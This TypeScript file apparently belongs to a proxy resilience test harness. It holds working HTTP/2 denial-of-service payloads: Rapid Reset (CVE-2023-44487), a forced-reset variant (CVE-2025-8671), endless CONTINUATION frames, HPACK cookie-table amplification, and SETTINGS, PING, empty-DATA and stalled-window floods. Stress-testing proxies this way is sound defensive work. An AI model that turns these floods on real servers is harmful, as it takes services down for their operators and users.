import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Flood, pour as pourOut } from './floods.ts';
import {
  block,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  GET_FIELDS,
  headers,
  POST_FIELDS,
  PREFACE,
  settings,
  word,
} from './h2-frames.ts';

const QUIET_MS = 300;

type Piece = (i: number) => Uint8Array;

const GREETING = Buffer.concat([PREFACE, settings()]);
const GET_BLOCK = block(GET_FIELDS);
/** Neither END_HEADERS nor an end of its own: CONTINUATION has to follow. */
const OPEN_HEAD = frame(FRAME.headers, END_STREAM, 1, GET_BLOCK);
/** `cookie` (static index 32) with 3,968 octets, which enters the dynamic table as its only field. */
const STORED_COOKIE = Buffer.concat([Buffer.of(0x60, 127, 129, 30), Buffer.alloc(127 + 1 + 30 * 128, 0x63)]);
/** The newest field of the dynamic table. */
const NEWEST = 0xbe;
const SETTINGS_INITIAL_WINDOW_SIZE = 4;

/** What befalls proxies in HTTP/2 by prior knowledge; the cookies and the last ones stay within every limit. */
export const H2_FLOODS: readonly Flood[] = [
  {
    name: 'HTTP/2: streams opened and reset at once',
    send: (socket) => pour(socket, GREETING, pairs(100, resetByClient), 50),
  },
  {
    name: 'HTTP/2: streams that the proxy is made to reset',
    send: (socket) => pour(socket, GREETING, pairs(100, resetByProxy), 50),
  },
  {
    name: 'HTTP/2: an endless head in CONTINUATION',
    send: (socket) => pour(socket, opened(), always(continuation(block([['x', 'y'.repeat(16_000)]]))), 64),
  },
  {
    name: 'HTTP/2: endless CONTINUATION without a field',
    send: (socket) => pour(socket, opened(), always(repeated(512, continuation(Buffer.alloc(0)))), 200),
  },
  {
    name: 'HTTP/2: one stored field named without end',
    send: (socket) =>
      pour(
        socket,
        Buffer.concat([opened(), continuation(STORED_COOKIE)]),
        always(continuation(named(16_000))),
        64,
      ),
  },
  {
    name: 'HTTP/2: one stored field named 12,000 times by each of many streams',
    send: (socket) => pour(socket, GREETING, pairs(1, cookieHead(12_000)), 40),
  },
  {
    name: 'HTTP/2: stored cookies, just within the limits of a head',
    send: (socket) => pour(socket, GREETING, pairs(1, cookieHead(14)), 32),
  },
  {
    name: 'HTTP/2: heads full of cookies, just within the limits',
    send: (socket) => pour(socket, GREETING, pairs(1, literalCookies), 32),
  },
  {
    name: 'HTTP/2: SETTINGS whose acknowledgement nobody takes',
    send: (socket) => pour(paused(socket), GREETING, always(repeated(512, settings())), 200),
  },
  {
    name: 'HTTP/2: PING whose answer nobody takes',
    send: (socket) =>
      pour(paused(socket), GREETING, always(repeated(512, frame(FRAME.ping, 0, 0, Buffer.alloc(8)))), 200),
  },
  {
    name: 'HTTP/2: DATA without an octet',
    send: (socket) =>
      pour(
        socket,
        Buffer.concat([GREETING, headers(1, POST_FIELDS, 0)]),
        always(repeated(512, frame(FRAME.data, 0, 1))),
        200,
      ),
  },
  {
    name: 'HTTP/2: frames that ask for nothing',
    send: (socket) => pour(socket, GREETING, always(repeated(128, idleFrames())), 100),
  },
  {
    name: 'HTTP/2: streams whose answers nobody takes',
    send: (socket) =>
      pour(
        paused(socket),
        Buffer.concat([PREFACE, settings([SETTINGS_INITIAL_WINDOW_SIZE, 0])]),
        pairs(10, (stream) => headers(stream, GET_FIELDS)),
        10,
      ),
  },
];

/** Pours, and then gives the proxy a while to close the connection: what it took in may be waiting still. */
async function pour(socket: Socket, start: Uint8Array, piece: Piece, times: number): Promise<void> {
  await pourOut(socket, start, piece, times);
  if (socket.destroyed) return;
  await Promise.race([
    new Promise<void>((resolve) => socket.once('close', () => resolve())),
    sleep(QUIET_MS),
  ]);
}

/** Pieces of `count` streams each, whose identifiers go up. */
function pairs(count: number, part: (stream: number) => Uint8Array): Piece {
  return (i) => Buffer.concat(Array.from({ length: count }, (_, j) => part(2 * (i * count + j) + 1)));
}

function always(piece: Uint8Array): Piece {
  return () => piece;
}

function repeated(count: number, part: Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => part));
}

function paused(socket: Socket): Socket {
  return socket.pause();
}

function opened(): Buffer {
  return Buffer.concat([GREETING, OPEN_HEAD]);
}

function continuation(fields: Uint8Array, flags = 0, stream = 1): Buffer {
  return frame(FRAME.continuation, flags, stream, fields);
}

function named(times: number): Buffer {
  return Buffer.alloc(times, NEWEST);
}

/** CVE-2023-44487. */
function resetByClient(stream: number): Buffer {
  return Buffer.concat([headers(stream, GET_FIELDS), frame(FRAME.rstStream, 0, stream, word(8))]);
}

/** CVE-2025-8671: a window update of 0 is an error of the stream, which the receiver has to reset. */
function resetByProxy(stream: number): Buffer {
  return Buffer.concat([headers(stream, POST_FIELDS, 0), frame(FRAME.windowUpdate, 0, stream, word(0))]);
}

/** A request that stores the cookie anew, and names it so many times more. */
function cookieHead(times: number): (stream: number) => Buffer {
  const fields = Buffer.concat([GET_BLOCK, STORED_COOKIE, named(times)]);
  return (stream) => frame(FRAME.headers, END_STREAM | END_HEADERS, stream, fields);
}

function literalCookies(stream: number): Buffer {
  const some = block(Array.from({ length: 24 }, () => ['cookie', 'c'.repeat(600)] as const));
  return Buffer.concat([
    frame(FRAME.headers, END_STREAM, stream, Buffer.concat([GET_BLOCK, some])),
    continuation(some, 0, stream),
    continuation(some, 0, stream),
    continuation(some, END_HEADERS, stream),
  ]);
}

function idleFrames(): Buffer {
  return Buffer.concat([
    frame(FRAME.priority, 0, 1, [0, 0, 0, 0, 15]),
    frame(0x42, 0, 0, [1, 2, 3]),
    frame(FRAME.windowUpdate, 0, 0, word(1)),
  ]);
}
